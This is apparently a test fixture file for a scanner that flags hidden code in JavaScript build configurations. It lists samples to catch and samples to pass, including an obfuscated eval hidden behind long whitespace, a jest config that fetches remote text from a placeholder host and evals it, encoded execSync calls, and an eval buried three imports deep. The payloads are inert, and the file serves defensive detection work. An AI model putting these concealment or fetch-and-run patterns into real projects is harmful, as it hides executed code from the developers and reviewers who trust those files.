import type { Examples } from "@doorward/core";

/** Configuration files that run hidden code, and configurations that compute their settings. */
export const examples: Examples = {
  hits: [
    {
      name: "code behind hundreds of blanks",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "vite.config.mjs": `export default { plugins: [] };                                                                                                                                                                                                        eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString());
`,
      },
    },
    {
      name: "a test configuration that runs an answer",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "test": "jest" } }
`,
        "jest.config.js": `fetch("https://api.example/check").then((answer) => answer.text()).then((text) => eval(text));
module.exports = {};
`,
      },
    },
    {
      name: "a linter's configuration with a hidden command",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "eslint.config.mjs": `import { execSync } from "node:child_process";
execSync(Buffer.from("6563686f20696e6572742d636f6d6d616e64", "hex").toString());
export default [];
`,
      },
    },
    {
      name: "a module whose name is hidden",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "postcss.config.js": `const tool = require(atob("Y2hpbGRfcHJvY2Vzcw=="));
module.exports = { plugins: {} };
tool.execSync("git --version");
`,
      },
    },
  ],
  misses: [
    {
      name: "a configuration that asks Git for the version",
      why: "The command stands in the file and starts a tool that the project uses.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "vite.config.mjs": `import { execSync } from "node:child_process";
const version = execSync("git rev-parse HEAD").toString();
export default { define: { VERSION: JSON.stringify(version) } };
`,
      },
    },
    {
      name: "a configuration that decodes a certificate",
      why: "The certificate is a setting, and nothing is run.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "vite.config.mjs": `const certificate = Buffer.from("LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t", "base64").toString();
export default { server: { https: { cert: certificate } } };
`,
      },
    },
    {
      name: "a configuration that fetches a list of pages",
      why: "The answer becomes a setting.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "vite.config.mjs": `const answer = await fetch("https://content.example/pages.json");
export default { pages: await answer.json() };
`,
      },
    },
  ],
  evasions: [
    {
      name: "a plug-in of the arrival's own, three files away",
      caughtBy: "code/decoded-text-runs",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "scripts": { "dev": "vite", "build": "vite build" } }
`,
        "vite.config.mjs": `import a from "./tools/a.mjs";
export default { plugins: [a] };
`,
        "tools/a.mjs": `import b from "./b.mjs";
export default b;
`,
        "tools/b.mjs": `import "./c.mjs";
export default {};
`,
        "tools/c.mjs": `eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString());
`,
      },
    },
  ],
};
